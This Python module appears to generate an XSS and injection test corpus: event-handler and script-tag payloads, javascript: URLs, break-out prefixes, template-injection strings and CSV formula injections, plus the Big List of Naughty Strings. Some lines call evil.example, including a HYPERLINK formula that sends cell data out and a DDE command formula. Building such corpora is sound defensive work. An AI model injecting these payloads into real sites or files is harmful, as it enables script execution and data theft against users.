"""Words that want to be more than words: 500 of markup and script, and the Big List of Naughty
Strings (naughty/, by Max Woolf and others, MIT License).
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path

NAUGHTY = json.loads((Path(__file__).parent / "naughty" / "blns.json").read_text(encoding="utf-8"))
DEED = "window.pwned=1"
_ELEMENTS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open"),
    *("iframe src=x", "object data=x", "embed src=x", "marquee", "select autofocus", "style"),
    *("textarea autofocus", "math", "button autofocus", "form", "a href=x", "link href=x", "table"),
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationstart"),
    *("onbegin", "oncanplay", "onclick"),
)
_SCRIPTS = (
    f"<script>{DEED}</script>",
    f"<ScRiPt >{DEED}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{DEED}</script>",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{DEED}</script>"></iframe>',
    f"<a href=javascript:{DEED}>x</a>",
    f"<a href='java\tscript:{DEED}'>x</a>",
    f"<math><a xlink:href=javascript:{DEED}>x</a></math>",
    f"<form action=javascript:{DEED}><input type=submit></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DEED}'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img src=https://evil.example/x.png>",
    f"[x](javascript:{DEED})",
    "![x](https://evil.example/x.png)",
    f"<template><img src=x onerror={DEED}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DEED}>",
    f"${{{DEED}}} {{{{constructor.constructor('{DEED}')()}}}} <%= {DEED} %> #{{{DEED}}}",
    f":material/home: :red[x] $\\href{{javascript:{DEED}}}{{x}}$",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1\r\n-1\r\n=1,\"2\",'3'",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "\x00{}",
    "{}\u202e",
)


def payloads() -> list[str]:
    """All of them, each once."""
    events = (
        f"<{element} {event}={DEED}>" for element, event in itertools.product(_ELEMENTS, _EVENTS)
    )
    broken_out = (around.format(script) for around, script in itertools.product(_AROUND, _SCRIPTS))
    upper = (
        f"<{element.upper()}/{event}={DEED} "
        for element, event in zip(_ELEMENTS, itertools.cycle(_EVENTS), strict=False)
    )
    return list(dict.fromkeys([*events, *broken_out, *upper, *NAUGHTY]))
